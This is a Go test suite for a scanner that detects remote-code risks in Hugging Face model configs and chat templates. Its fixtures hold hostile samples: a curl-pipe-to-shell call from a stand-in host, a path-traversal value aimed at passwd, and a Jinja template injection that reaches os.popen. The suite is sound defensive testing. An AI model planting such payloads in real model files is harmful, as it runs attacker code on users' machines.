package hfconfig_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/scan"
)

func repo(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

func scanDir(t *testing.T, dir string) map[string]scan.FileResult {
	t.Helper()
	out := map[string]scan.FileResult{}
	for _, r := range scan.New().ScanPaths(context.Background(), []string{dir}) {
		out[filepath.Base(r.Path)] = r
	}
	return out
}

func TestRemoteCode(t *testing.T) {
	for _, tc := range []struct {
		name     string
		files    map[string]string
		file     string
		severity finding.Severity
		evidence string
		message  string
	}{
		{"custom code calling os.system",
			map[string]string{
				"config.json":           `{"model_type": "evil", "auto_map": {"AutoConfig": "configuration_evil.EvilConfig", "AutoModel": "modeling_evil.EvilModel"}}`,
				"modeling_evil.py":      "import os\nclass EvilModel:\n    def __init__(self):\n        os.system('curl http://x | sh')\n",
				"configuration_evil.py": "class EvilConfig:\n    pass\n",
			},
			"config.json", finding.Critical, "line 4: os.system('curl http://x | sh')", "modeling_evil.py"},
		{"plain custom code is still high",
			map[string]string{
				"config.json":        `{"auto_map": {"AutoConfig": "configuration_x.XConfig"}}`,
				"configuration_x.py": "class XConfig:\n    pass\n",
			},
			"config.json", finding.High, "", "configuration_x.py"},
		{"tokenizer with a list of classes",
			map[string]string{
				"tokenizer_config.json": `{"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}}`,
				"tokenization_x.py":     "import subprocess\nsubprocess.run(['id'])\n",
			},
			"tokenizer_config.json", finding.Critical, "subprocess.run", "tokenization_x.py"},
		{"code from another repository",
			map[string]string{"config.json": `{"auto_map": {"AutoModel": "someone/else--modeling_y.YModel"}}`},
			"config.json", finding.High, "", "someone/else"},
		{"a path that leaves the repository is not read",
			map[string]string{"config.json": `{"auto_map": {"AutoModel": "....etc.passwd.X"}}`},
			"config.json", finding.High, "", "could not be read"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := scanDir(t, repo(t, tc.files))[tc.file]
			var hit *finding.Finding
			for i, f := range res.Findings {
				if f.RuleID == "HF-REMOTE-CODE" && strings.Contains(f.Message, tc.message) {
					hit = &res.Findings[i]
				}
			}
			if hit == nil {
				t.Fatalf("no HF-REMOTE-CODE finding about %q: %+v", tc.message, res.Findings)
			}
			if hit.Severity != tc.severity || !strings.Contains(hit.Evidence, tc.evidence) {
				t.Errorf("finding %+v", *hit)
			}
		})
	}
}

func TestPlainConfigIsClean(t *testing.T) {
	res := scanDir(t, repo(t, map[string]string{
		"config.json":           `{"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 768}`,
		"tokenizer_config.json": `{"tokenizer_class": "BertTokenizer"}`,
		"README.md":             "# model card",
	}))
	if len(res) != 2 {
		t.Fatalf("results %v", res)
	}
	for name, r := range res {
		if worst, _ := finding.Max(r.Findings); worst > finding.Info || len(r.Errors) > 0 || r.Format != "hf-config" {
			t.Errorf("%s: format %s, findings %+v, errors %v", name, r.Format, r.Findings, r.Errors)
		}
	}
}

func TestChatTemplates(t *testing.T) {
	evil := `{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__.__globals__['os'].popen('id') }}{% endfor %}`
	chatml := `{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}`
	for _, tc := range []struct {
		name  string
		files map[string]string
		file  string
		bad   bool
	}{
		{"injection in tokenizer_config.json", map[string]string{"tokenizer_config.json": `{"chat_template": ` + quote(evil) + `}`}, "tokenizer_config.json", true},
		{"named templates", map[string]string{"tokenizer_config.json": `{"chat_template": [{"name": "default", "template": ` + quote(chatml) + `}, {"name": "tool_use", "template": ` + quote(evil) + `}]}`}, "tokenizer_config.json", true},
		{"chat_template.jinja", map[string]string{"chat_template.jinja": evil}, "chat_template.jinja", true},
		{"ChatML is clean", map[string]string{"tokenizer_config.json": `{"chat_template": ` + quote(chatml) + `}`, "chat_template.jinja": chatml}, "tokenizer_config.json", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res := scanDir(t, repo(t, tc.files))
			r := res[tc.file]
			worst, _ := finding.Max(r.Findings)
			if tc.bad != (worst >= finding.High) || len(r.Errors) > 0 {
				t.Errorf("worst %s, findings %+v errors %v", worst, r.Findings, r.Errors)
			}
			if !tc.bad {
				for name, rr := range res {
					if w, _ := finding.Max(rr.Findings); w >= finding.Medium {
						t.Errorf("%s: %+v", name, rr.Findings)
					}
				}
			}
		})
	}
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
